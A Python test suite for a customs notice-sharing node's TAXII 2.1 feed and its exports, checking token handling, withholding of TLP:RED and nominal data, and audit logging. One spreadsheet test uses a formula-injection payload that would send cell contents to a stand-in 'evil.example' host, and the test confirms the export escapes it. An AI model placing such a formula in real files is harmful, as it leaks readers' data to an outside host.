"""TAXII 2.1 on a real node, pulled by OASIS's own ``taxii2-client`` as MISP and OpenCTI pull.

Guayaquil sends Algeciras notices, one of them through a channel; Algeciras
serves them as collections. Each test is also an attack where it can be:
no token, a wrong one, a revoked one, a browser's Accept, RED and nominal
data that must never be served, and exports that must be asked for.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path
from typing import Any

import aiohttp
import openpyxl
import pytest
from node_harness import Cluster, TestNode
from notice_json import alert_notice, publish_body
from requests.exceptions import HTTPError
from sharing_support import arrives, cli, refusal, wait_for
from sqlalchemy import text
from stix2validator import ValidationOptions, validate_instance
from taxii2client.v21 import Server, as_pages

from baliza.node.core.clock import now_ms
from baliza.node.exchange.stix import timestamp
from baliza.node.services.tokens import withdraw_token
from baliza.node.storage import Database
from baliza.node.storage.audit import export as audit_entry_of_export
from baliza.protocol.errors import ReasonCode

GYE, ALG, CTG = "ec.polnac.gye", "es.aduanas.alg", "co.polfa.ctg"
CCP = "ccp.pacific-europe"
OTHER = "CSQU3054383"
NOMINAL = {"companies": [{"role": "consignee", "name": "Frutas del Sur SL"}]}
TAXII_JSON = "application/taxii+json;version=2.1"


@pytest.fixture
async def nodes(cluster: Cluster, database_engine: str) -> dict[str, TestNode]:
    made = await cluster(
        (GYE, ALG, CTG), database_engine, per_node={GYE: {"nominal_recipients": [ALG]}}
    )
    return {node.agency: node for node in made}


async def publish(node: TestNode, body: dict[str, Any]) -> str:
    result: dict[str, Any] = await node.api().post("/api/v1/notices", body)
    return str(result["id"])


async def found_ccp(gye: TestNode, *members: TestNode) -> None:
    body = {
        "id": CCP,
        "kind": "programme",
        "name": "Container programme, Pacific to Europe",
        "programme": "ccp",
        "members": [m.agency for m in members],
    }
    await gye.api("admin").post("/api/v1/channels", body)


def token(node: TestNode, role: str = "analyst") -> str:
    return node.tokens[role]


def server(node: TestNode, password: str) -> Server:
    return Server(f"{node.url}/taxii2/", user="misp", password=password)


def pull(node: TestNode, password: str, **filters: Any) -> dict[str, Any]:
    """What MISP does: discover, list collections, page through each one's objects."""
    found: dict[str, Any] = {}
    root = server(node, password).api_roots[0]
    for collection in root.collections:
        objects: list[dict[str, Any]] = []
        for page in as_pages(collection.get_objects, per_request=7, **filters):
            objects += page.get("objects", [])
        found[collection.title] = objects
    return found


def assert_valid(objects: list[dict[str, Any]]) -> None:
    """Valid once repeats are folded: shared definitions come again, identical, on later pages."""
    by_version: dict[tuple[str, str | None], dict[str, Any]] = {}
    for obj in objects:
        assert by_version.setdefault((obj["id"], obj.get("modified")), obj) == obj
    objects = list(by_version.values())
    stix = {
        "type": "bundle",
        "id": "bundle--0b0a9d52-5a76-4bd4-9c8e-3fbfb5b3c9f0",
        "objects": objects,
    }
    result = validate_instance(
        stix, ValidationOptions(version="2.1", strict=True, disabled=["103"])
    )
    assert result.is_valid, [str(e) for e in result.errors]


async def test_misp_pulls_what_was_received_and_each_channel_but_never_red_or_nominal(
    nodes: dict[str, TestNode],
) -> None:
    gye, alg, ctg = nodes[GYE], nodes[ALG], nodes[CTG]
    await found_ccp(gye, alg, ctg)
    plain = await publish(gye, publish_body(GYE, [ALG]))
    red = publish_body(GYE, [ALG], container=OTHER)
    red["handling"] = {"tlp": "red"}
    red_id = await publish(gye, red)
    nominal = publish_body(GYE, [ALG], container="TGHU8761235")
    nominal["notice"]["nominal"] = NOMINAL
    nominal_id = await publish(gye, nominal)
    in_channel = await publish(
        gye, {**publish_body(GYE, [], container="MSKU9070323"), "channel": CCP}
    )
    for eid in (plain, red_id, nominal_id, in_channel):
        await arrives(alg, eid)

    pulled = await asyncio.to_thread(pull, alg, token(alg))
    assert set(pulled) == {"Received", "Channel Container programme, Pacific to Europe"}
    received = pulled["Received"]
    assert_valid(received)
    served = {
        ref["external_id"]
        for obj in received
        if obj["type"] == "report"
        for ref in obj["external_references"]
        if ref["source_name"] == "baliza"
    }
    assert served == {plain, nominal_id, in_channel}  # not the RED one
    text = json.dumps(received)
    assert "Frutas" not in text and OTHER not in text
    channel = pulled["Channel Container programme, Pacific to Europe"]
    assert_valid(channel)
    assert [o["value"] for o in channel if o["type"] == "baliza-container"] == ["MSKU9070323"]
    # Paged seven at a time: several pages, each object once per version within a page.
    assert len(received) > 7


async def test_added_after_serves_only_what_came_later(nodes: dict[str, TestNode]) -> None:
    gye, alg = nodes[GYE], nodes[ALG]
    first = await publish(gye, publish_body(GYE, [ALG]))
    await arrives(alg, first)
    await asyncio.sleep(0.01)
    cut = now_ms()
    await asyncio.sleep(0.01)
    second = await publish(gye, publish_body(GYE, [ALG], container=OTHER))
    await arrives(alg, second)
    after = timestamp(cut)
    pulled = await asyncio.to_thread(pull, alg, token(alg), added_after=after)
    reports = [o for o in pulled["Received"] if o["type"] == "report"]
    assert [r["external_references"][0]["external_id"] for r in reports] == [second]


async def raw_get(node: TestNode, path: str, **headers: str) -> tuple[int, dict[str, str], Any]:
    async with (
        aiohttp.ClientSession() as session,
        session.get(node.url + path, headers=headers) as resp,
    ):
        return resp.status, dict(resp.headers), json.loads(await resp.text())


@pytest.mark.parametrize(
    "authorization",
    [None, "Basic bWlzcDpiel9ub3RfYXRva2Vu", "Bearer bz_nope_nope", "Basic !!!", "Digest x"],
)
async def test_no_valid_token_no_collections(
    nodes: dict[str, TestNode], authorization: str | None
) -> None:
    alg = nodes[ALG]
    headers = {"Accept": TAXII_JSON} | ({"Authorization": authorization} if authorization else {})
    status, answer_headers, body = await raw_get(alg, "/taxii2/baliza/collections/", **headers)
    assert status == 401
    assert answer_headers["Content-Type"] == TAXII_JSON
    assert "Basic" in answer_headers["WWW-Authenticate"]
    assert body["error_code"] == "unauthenticated" and body["http_status"] == "401"


async def test_a_revoked_token_is_refused_to_the_platform(nodes: dict[str, TestNode]) -> None:
    alg = nodes[ALG]
    secret = token(alg)
    assert await asyncio.to_thread(lambda: len(server(alg, secret).api_roots)) == 1
    token_id = secret.split("_")[1]
    await withdraw_token(alg.ctx.db, token_id, now_ms(), actor="test")
    with pytest.raises(HTTPError, match="401"):
        await asyncio.to_thread(lambda: server(alg, secret).api_roots)


async def test_bearer_works_and_a_browser_accept_is_not_acceptable(
    nodes: dict[str, TestNode],
) -> None:
    alg = nodes[ALG]
    bearer = {"Authorization": f"Bearer {token(alg)}"}
    status, _, body = await raw_get(alg, "/taxii2/", Accept=TAXII_JSON, **bearer)
    assert status == 200 and body["api_roots"][0].endswith("/taxii2/baliza/")
    status, headers, body = await raw_get(alg, "/taxii2/baliza/", Accept="text/html", **bearer)
    assert (status, headers["Content-Type"]) == (406, TAXII_JSON)
    missing = "/taxii2/baliza/collections/6b2b1f5e-0000-5000-8000-000000000000/objects/"
    status, _, body = await raw_get(alg, missing, Accept=TAXII_JSON, **bearer)
    assert (status, body["error_code"]) == (404, "not_found")
    collections = (await raw_get(alg, "/taxii2/baliza/collections/", **bearer))[2]
    objects = f"/taxii2/baliza/collections/{collections['collections'][0]['id']}/objects/"
    for query, reason in [
        ("?next=42", "bad_format"),
        ("?limit=0", "out_of_range"),
        ("?added_after=yesterday", "bad_format"),
        ("?match[version]=all", "unknown_field"),
    ]:
        status, _, body = await raw_get(alg, objects + query, **bearer)
        assert (status, body["error_code"]) == (422, reason), query
    # Nothing may be written.
    async with (
        aiohttp.ClientSession() as session,
        session.post(alg.url + objects, headers=bearer, json={}) as resp,
    ):
        assert resp.status == 405


async def test_an_export_says_its_handling_and_red_or_nominal_only_when_asked(
    nodes: dict[str, TestNode], tmp_path: Path
) -> None:
    gye, alg = nodes[GYE], nodes[ALG]
    body = publish_body(GYE, [ALG])
    body["handling"] = {"tlp": "red", "codes": ["h2"]}
    body["notice"]["nominal"] = NOMINAL
    eid = await publish(gye, body)
    await arrives(alg, eid)
    analyst = alg.api("analyst")
    err = await refusal(analyst.get(f"/api/v1/notices/{eid}/stix", {}))
    assert (err.reason, err.path) == (ReasonCode.HANDLING_FORBIDS, "confirm_red")
    err = await refusal(analyst.get("/api/v1/export/stix", {"kind": "seizure"}))
    assert err.reason is ReasonCode.HANDLING_FORBIDS
    _, raw = await download(alg, f"/api/v1/notices/{eid}/stix?confirm_red=1")
    stix = json.loads(raw)
    assert_valid(stix["objects"])
    # The file is in the audit log before it leaves: who, which notice, its exact bytes.
    custody = await analyst.get(f"/api/v1/notices/{eid}/custody", {})
    (logged,) = [e for e in custody["entries"] if e["kind"] == "export"]
    expected = audit_entry_of_export(
        at_ms=0, actor="test analyst", file_format="stix", body=raw, envelope_ids=[eid]
    )
    assert logged["digest"] == expected.digest.hex()
    assert "Frutas" not in json.dumps(stix)
    assert any(o.get("name") == "TLP:RED" for o in stix["objects"])
    assert any(
        o.get("definition", {}).get("statement") == "Handling code H2" for o in stix["objects"]
    )
    full = await analyst.get(
        "/api/v1/export/stix", {"kind": "seizure", "confirm_red": "1", "nominal": "1"}
    )
    assert_valid(full["objects"])
    assert any(o.get("name") == "Frutas del Sur SL" for o in full["objects"])
    err = await refusal(analyst.get("/api/v1/export/stix", {"nominal": "yes"}))
    assert (err.reason, err.path) == (ReasonCode.BAD_ENUM, "nominal")
    # The CLI asks the same node the same way.
    out = tmp_path / "export.json"
    assert await cli(alg, "analyst", "export", "stix", eid, "-o", str(out)) != 0
    assert not out.exists()
    assert (
        await cli(
            alg, "analyst", "export", "stix", "--kind", "seizure", "--confirm-red", "-o", str(out)
        )
        == 0
    )
    assert_valid(json.loads(out.read_text())["objects"])


async def test_a_channel_narrows_the_feed(nodes: dict[str, TestNode]) -> None:
    gye, alg, ctg = nodes[GYE], nodes[ALG], nodes[CTG]
    await found_ccp(gye, alg, ctg)

    async def member() -> bool:
        collections = await alg.api("analyst").get("/taxii2/baliza/collections/", {})
        return len(collections["collections"]) == 2

    await wait_for(member)
    named = await publish(gye, publish_body(GYE, [ALG]))
    in_channel = await publish(gye, {**publish_body(GYE, [], container=OTHER), "channel": CCP})
    await arrives(alg, named)
    await arrives(alg, in_channel)
    page = await alg.api("analyst").get("/api/v1/notices", {"channel": CCP})
    assert [(i["id"], i["channel"]) for i in page["items"]] == [(in_channel, CCP)]
    named_row = await alg.api("analyst").get(f"/api/v1/notices/{named}", {})
    assert named_row["channel"] is None
    sent = await gye.api("analyst").get("/api/v1/notices", {"channel": CCP})
    assert [i["id"] for i in sent["items"]] == [in_channel]
    # Notices stored before the facet existed get it from their envelopes (0018).
    db = await Database.open(alg.config.database_url)
    try:
        await db.downgrade("0017")  # before the channel facet (0018)
        # The node's code reads the head's schema: ask the database itself, not the API.
        facets = await db.run(
            lambda c: c.execute(
                text("SELECT count(*) FROM notice_refs WHERE ref_type = 'channel'")
            ).scalar_one(),
            write=False,
        )
        assert facets == 0
        await db.upgrade()
    finally:
        await db.close()
    page = await alg.api("analyst").get("/api/v1/notices", {"channel": CCP})
    assert [i["id"] for i in page["items"]] == [in_channel]


def alert_body(tlp: str) -> dict[str, Any]:
    """Guayaquil's alert to Algeciras about ``OTHER``, due tomorrow, under ``tlp``."""
    notice = alert_notice(GYE, OTHER)
    return {"notice": notice, "recipients": [ALG], "handling": {"tlp": tlp}}


async def download(node: TestNode, path: str) -> tuple[dict[str, str], bytes]:
    headers = {"Authorization": f"Bearer {token(node)}"}
    async with (
        aiohttp.ClientSession() as session,
        session.get(node.url + path, headers=headers) as resp,
    ):
        assert resp.status == 200, await resp.text()
        return dict(resp.headers), await resp.read()


async def test_spreadsheets_say_their_handling_and_never_run_a_senders_formula(
    nodes: dict[str, TestNode], tmp_path: Path
) -> None:
    gye, alg = nodes[GYE], nodes[ALG]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    body = publish_body(GYE, [ALG])
    body["handling"] = {"tlp": "amber+strict", "codes": ["h3"], "restrictions": formula}
    body["notice"]["nominal"] = NOMINAL
    first = await publish(gye, body)
    second = await publish(gye, alert_body("green"))
    await arrives(alg, first)
    await arrives(alg, second)

    headers, data = await download(alg, "/api/v1/export/notices.csv")
    assert 'filename="baliza-notices-' in headers["Content-Disposition"]
    assert headers["Content-Disposition"].endswith('-TLP-AMBER-STRICT.csv"')
    assert headers["X-Baliza-Matched"] == "2"
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["id"] for r in rows] == [first, second]
    assert rows[0]["restrictions"] == "'" + formula  # shown, never run
    assert (rows[0]["tlp"], rows[0]["handling codes"]) == ("AMBER+STRICT", "H3")
    assert "Frutas" not in data.decode()  # nominal only when asked
    _, with_nominal = await download(alg, "/api/v1/export/notices.csv?nominal=1")
    assert "company:FRUTAS DEL SUR" in with_nominal.decode()

    _, data = await download(alg, "/api/v1/export/notices.xlsx?kind=seizure")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert str(sheet["A1"].value).startswith("TLP:AMBER+STRICT")
    header = [c.value for c in sheet[2]]
    cell = sheet.cell(row=3, column=header.index("restrictions") + 1)
    assert (cell.value, cell.data_type) == (formula, "s")

    headers, data = await download(alg, "/api/v1/export/alerts.xlsx?state=open")
    assert headers["Content-Disposition"].endswith('-TLP-GREEN.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    header = [c.value for c in sheet[2]]
    values = [c.value for c in sheet[3]]
    assert values[header.index("id")] == second and values[header.index("state")] == "open"

    out = tmp_path / "notices.xlsx"
    assert await cli(alg, "analyst", "export", "xlsx", "--kind", "alert", "-o", str(out)) == 0
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None and sheet.max_row == 3


async def test_a_red_alert_leaves_the_board_only_when_confirmed(nodes: dict[str, TestNode]) -> None:
    gye, alg = nodes[GYE], nodes[ALG]
    eid = await publish(gye, alert_body("red"))
    await arrives(alg, eid)
    err = await refusal(alg.api("analyst").get_bytes("/api/v1/export/alerts.csv"))
    assert (err.reason, err.path) == (ReasonCode.HANDLING_FORBIDS, "confirm_red")
    headers, data = await download(alg, "/api/v1/export/alerts.csv?confirm_red=1")
    assert headers["Content-Disposition"].endswith('-TLP-RED.csv"') and eid in data.decode()
